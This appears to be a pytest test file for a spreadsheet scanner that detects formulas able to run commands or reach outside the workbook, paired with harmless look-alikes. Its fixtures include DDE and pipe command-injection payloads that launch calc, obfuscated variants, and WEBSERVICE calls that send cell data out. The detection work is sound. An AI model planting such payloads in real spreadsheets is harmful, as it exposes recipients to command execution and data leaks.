"""Tables that would do something where they are opened, made by the real library; and harmless ones."""

import io
import zipfile
from contextlib import suppress

import pytest

from effort import limit_effort
from files.making import sheet, workbook
from gongkai.files.cells import Cell, CellRow
from gongkai.files.formulas import find_in_cells, find_in_workbook
from gongkai.files.package import Package
from gongkai.files.pieces import Unreadable

SHEET = "xl/worksheets/sheet1.xml"


def replace_parts(content: bytes, **changes: tuple[str, str]) -> bytes:
    """The workbook with parts changed or added: `part=(name, text)`."""
    given = dict(changes.values())
    source, target = zipfile.ZipFile(io.BytesIO(content)), io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in {*source.namelist(), *given}:
            text = given.get(name)
            archive.writestr(name, source.read(name) if text is None else text)
    return target.getvalue()


def with_formula(xml: str, encoding: str = "utf-8") -> bytes:
    text = (
        f'<?xml version="1.0" encoding="{encoding}"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        f'<row r="1"><c r="A1">{xml}</c></row></sheetData></worksheet>'
    )
    return replace_parts(sheet(["甲"]), part=(SHEET, text.encode(encoding)))


def defined_name(text: str) -> bytes:
    part = (
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"<definedNames><definedName name='甲'>{text}</definedName></definedNames></workbook>"
    )
    return replace_parts(sheet(["甲"]), part=("xl/workbook.xml", part))


def linked(xml: str) -> bytes:
    part = f'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{xml}</externalLink>'
    return replace_parts(sheet(["甲"]), part=("xl/externalLinks/externalLink1.xml", part))


DANGEROUS = {
    "DDE": lambda: sheet(['=DDE("cmd";"/c calc";"x")']),
    "pipe": lambda: sheet(["=cmd|'/c calc'!A0"]),
    "hidden sheet": lambda: sheet(["=MSEXCEL|'\\..\\..\\calc.exe'!A"], state="veryHidden"),
    "link to a site": lambda: sheet(['=HYPERLINK("https://example.com/","看")']),
    "link built from cells": lambda: sheet(['=hyperlink( A1 & B1 , "看")']),
    "an anchor that isn't one": lambda: sheet(['=HYPERLINK("#"&A1,"看")']),
    "web service": lambda: sheet(['=_xlfn.WEBSERVICE("https://example.com/?"&A1)']),
    "within others": lambda: sheet(['=IF(A1>0,SUM(1,2)&WebService(B1),"")']),
    "entities": lambda: with_formula("<f>&#72;YPERLINK(&quot;https://example.com/&quot;)</f>"),
    "comment within": lambda: with_formula("<f>HYPER<!-- x -->LINK(A1)</f>"),
    "data section": lambda: with_formula("<f><![CDATA[HYPERLINK(A1)]]></f>"),
    "another encoding": lambda: with_formula("<f>HYPERLINK(A1)</f>", "utf-16"),
    "prefixed": lambda: with_formula(
        '<x:f xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main">HYPERLINK(A1)</x:f>'
    ),
    "defined name": lambda: defined_name("cmd|'/c calc'!A0"),
    "link to a program": lambda: linked('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'),
    "embedded link": lambda: linked("<oleLink/>"),
    "connection": lambda: replace_parts(
        sheet(["甲"]),
        part=("xl/connections.xml", '<connections><connection id="1"/></connections>'),
    ),
    "query": lambda: replace_parts(sheet(["甲"]), part=("xl/queryTables/queryTable1.xml", "<x/>")),
    "macro sheet": lambda: replace_parts(sheet(["甲"]), part=("xl/macrosheets/sheet1.xml", "<x/>")),
}
HARMLESS = {
    "sums": lambda: sheet([1, 2, "=SUM(A1:B1)", '=AVERAGE(A1:B1)&"元"']),
    "anchor": lambda: sheet(
        ['=HYPERLINK("#名册!A1","见上表")', '=HYPERLINK("mailto:a@b.cn","信")']
    ),
    "words": lambda: sheet(["HYPERLINK(A1)", '="cmd 和 DDE"', "a|'b", "https://example.com/"]),
    "a cell's link": lambda: workbook(
        lambda book: setattr(book.active["A1"], "hyperlink", "https://www.example.edu.cn/")
    ),
    "another workbook's values": lambda: linked("<externalBook/>"),
}


@pytest.mark.parametrize("name", DANGEROUS)
def test_a_formula_that_reaches_out_is_found(name):
    found = list(find_in_workbook(Package(DANGEROUS[name]())))
    assert len(found) == 1
    assert found[0].is_dangerous
    assert found[0].where


@pytest.mark.parametrize("name", HARMLESS)
def test_a_formula_that_stays_inside_is_not(name):
    assert list(find_in_workbook(Package(HARMLESS[name]()))) == []


def in_cell(text):
    return [each.is_dangerous for each in find_in_cells([CellRow(1, [Cell("1", text)])])]


@pytest.mark.parametrize(
    "text",
    [
        *("=1+1", "=cmd|'/c calc'!A0", "@SUM(1)", "\t=1", "\r=1", "＝1+1", "＠甲", "=甲"),
        *("+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "-SUM(A1)", "+A1!B2", "＋SUM(1)", "=-1"),
    ],
)
def test_a_cell_that_would_run_is_an_error(text):
    assert in_cell(text) == [True]


@pytest.mark.parametrize("text", ["-含税", "+甲", "－减少", "+3.6个百分点", "-A1"])
def test_a_cell_that_would_be_spoilt_is_a_warning(text):
    assert in_cell(text) == [False]


@pytest.mark.parametrize(
    "text",
    [
        *("", "-", "+", "=", "@", "—", "-3", "+3.60%", "-1,200.00", "-￥35.20", "-1.5e-3", "+12‰"),
        *("+86-000-0000", "-1-2", "--", "1=1", "a@b.cn", "甲-乙", " =1", "'=1", "张某某"),
    ],
)
def test_a_cell_that_is_what_it_says_is_neither(text):
    assert in_cell(text) == []


@pytest.mark.parametrize(
    "xml",
    [
        "<!-- " + "<f" * 2_000_000 + " -->",
        "<f>" + "HYPERLINK(&quot;#" * 200_000 + "</f>",
        "<f>HYPERLINK(&quot;#</f>" * 200_000,
        "<f>" + "|" * 3_000_000 + "dde</f>",
    ],
    ids=["open", "long", "many", "bars"],
)
def test_no_formula_takes_long(xml):
    content = with_formula(xml)

    def find():
        with suppress(Unreadable):
            list(find_in_workbook(Package(content)))

    limit_effort(500, find)
